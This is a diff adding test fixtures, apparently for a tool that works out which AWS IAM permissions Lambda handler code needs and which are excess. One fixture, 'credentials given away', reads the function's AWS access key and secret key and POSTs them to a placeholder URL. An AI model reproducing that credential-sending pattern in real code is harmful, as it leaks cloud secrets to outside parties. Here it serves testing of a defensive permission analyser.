@@ -594,7 +594,7 @@ def handler(event, context):
     Program(
         "signed by hand",
         "es:ESHttpGet sqs:PurgeQueue",
-        "",
+        "sqs:PurgeQueue",
         """
 import boto3, requests
 from requests_aws4auth import AWS4Auth
@@ -603,7 +603,54 @@ def handler(event, context):
     auth = AWS4Auth(c.access_key, c.secret_key, 'eu', 'es', session_token=c.token)
     return requests.get('https://x', auth=auth).text
 """,
+        undecided="es",
+    ),
+    Program(
+        "credentials given away",
+        "sqs:PurgeQueue",
+        "",
+        """
+import boto3, requests
+def handler(event, context):
+    keys = boto3.Session().get_credentials().get_frozen_credentials()
+    requests.post('https://x', json={'id': keys.access_key, 'key': keys.secret_key})
+""",
         undecided="*",
+    ),
+    Program(
+        "role handed to a machine",
+        "ec2:AssociateIamInstanceProfile iam:PassRole iam:PutRolePolicy",
+        "iam:PutRolePolicy",
+        """
+import boto3
+def handler(event, context):
+    boto3.client('ec2').associate_iam_instance_profile(InstanceId='i', IamInstanceProfile={})
+""",
+    ),
+    Program(
+        "outer name set by an inner function",
+        "sqs:SendMessage sqs:DeleteQueue",
+        "sqs:DeleteQueue",
+        """
+import boto3
+def handler(event, context):
+    queue = None
+    def begin():
+        nonlocal queue
+        queue = boto3.client('sqs')
+    begin()
+    queue.send_message(QueueUrl='u', MessageBody='x')
+""",
+    ),
+    Program(
+        "API Gateway by verbs",
+        "apigateway:PATCH apigateway:DELETE",
+        "apigateway:DELETE",
+        """
+import boto3
+def handler(event, context):
+    boto3.client('apigateway').update_usage_plan(usagePlanId='a', patchOperations=[])
+""",
     ),
     Program(
         "Step Functions and events",
